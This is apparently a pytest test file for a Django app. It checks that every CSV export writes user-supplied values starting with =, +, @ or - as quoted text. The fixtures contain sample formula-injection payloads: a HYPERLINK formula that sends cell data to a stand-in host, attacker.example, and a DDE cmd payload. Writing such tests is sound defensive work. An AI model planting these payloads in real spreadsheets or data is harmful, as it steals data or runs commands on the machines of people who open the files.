"""No CSV export hands a spreadsheet a formula typed by a member of the public or carried in a register file."""

import csv
import io

import pytest
from django.core.cache import cache
from django.urls import reverse

from campaigns.bookings import services as bookings
from cms.exports import neutralise
from tests.campaigns.factories_bookings import campaign_with_session, invitation_for, school_booking
from tests.campaigns.factories_reach import CohortFactory, CohortMemberFactory
from tests.factories import CampaignFactory, ContactFactory, OrganisationFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"Click")'


@pytest.fixture(autouse=True)
def fresh_cache():
    cache.clear()


def cells(response):
    text = b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_every_export_writes_formulas_as_text(admin_client):
    campaign, session = campaign_with_session(capacity=90)
    organisation = OrganisationFactory(name=FORMULA, town="+cmd|' /C calc'!A0")
    ContactFactory(organisation=organisation, name="@SUM(1+1)")
    invitation_for(campaign, organisation=organisation)
    bookings.book_places(**school_booking(session, campaign, organisation=organisation, booker_name=FORMULA))
    urls = [
        reverse("campaigns_organisation:index"),
        reverse("campaigns_contact:index"),
        reverse("campaigns_invitation:index"),
        reverse("campaigns_outboundmessage:index"),
        reverse("campaigns_bookings:index"),
        reverse("campaigns_bookings_session_summary"),
    ]
    checked = 0
    for url in urls:
        response = admin_client.get(url, {"export": "csv"})
        assert response.status_code == 200, url
        values = cells(response)
        assert not [value for value in values if value.startswith(("=", "+", "@"))], url
        checked += any(
            value.startswith("'=") or value.startswith("'+") or value.startswith("'@") for value in values
        )
    assert checked >= 4  # the dangerous values were there, written as text


def test_plain_values_are_left_alone():
    assert neutralise("St Mary's") == "St Mary's"
    assert neutralise(-5) == -5
    assert neutralise("-1+2") == "'-1+2"


def test_reach_and_cohort_exports_write_formulas_as_text(admin_client):
    campaign = CampaignFactory(name="+Walk Online", local_authorities=["Thurrock"])
    OrganisationFactory(name=FORMULA, local_authority="Thurrock", ward="@Grays")
    cohort = CohortFactory(name="-Drivers")
    CohortMemberFactory(cohort=cohort, name=FORMULA)
    urls = [
        (reverse("campaigns_reach_never_reached"), {"campaign": campaign.pk}),
        (reverse("campaigns_reach_by_area"), {"campaign": campaign.pk, "by": "ward"}),
        (reverse("campaigns_cohort_members", args=[cohort.pk]), {}),
    ]
    for url, params in urls:
        response = admin_client.get(url, {**params, "export": "csv"})
        assert response.status_code == 200, url
        values = cells(response)
        assert not [value for value in values if value.startswith(("=", "+", "@"))], url
        assert any(value.startswith(("'=", "'@")) for value in values), url
